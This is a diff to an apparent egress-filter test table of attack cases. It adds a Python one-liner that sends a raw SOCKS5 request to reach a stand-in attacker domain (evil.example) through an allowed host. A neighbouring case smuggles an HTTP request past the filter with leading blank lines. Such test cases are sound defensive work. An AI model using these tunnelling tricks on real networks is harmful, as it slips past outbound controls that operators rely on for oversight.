@@ -80,6 +80,13 @@ export const tunnels: AttackTable = {
     },
     {
       row: 12,
+      name: "SOCKS 5 to an allowed host",
+      python: String.raw`talk(tcp(HOST, 1080), "\x05\x01\x00", b"\x05\x01\x00\x03" + bytes([len(EVIL)]) + EVIL.encode() + b"\x01\xbb", pause=0.3)`,
+      succeeded: saw("host", /\.evil\.example/),
+      rule: "proxy-protocol",
+    },
+    {
+      row: 12,
       name: "blank lines and blanks before the request",
       python: String.raw`talk(tls(HOST), f"\r\n\r\n \tGET http://{EVIL}/ HTTP/1.1\r\nHost: {EVIL}\r\n\r\n")`,
       succeeded: saw("host", /\.evil\.example/),
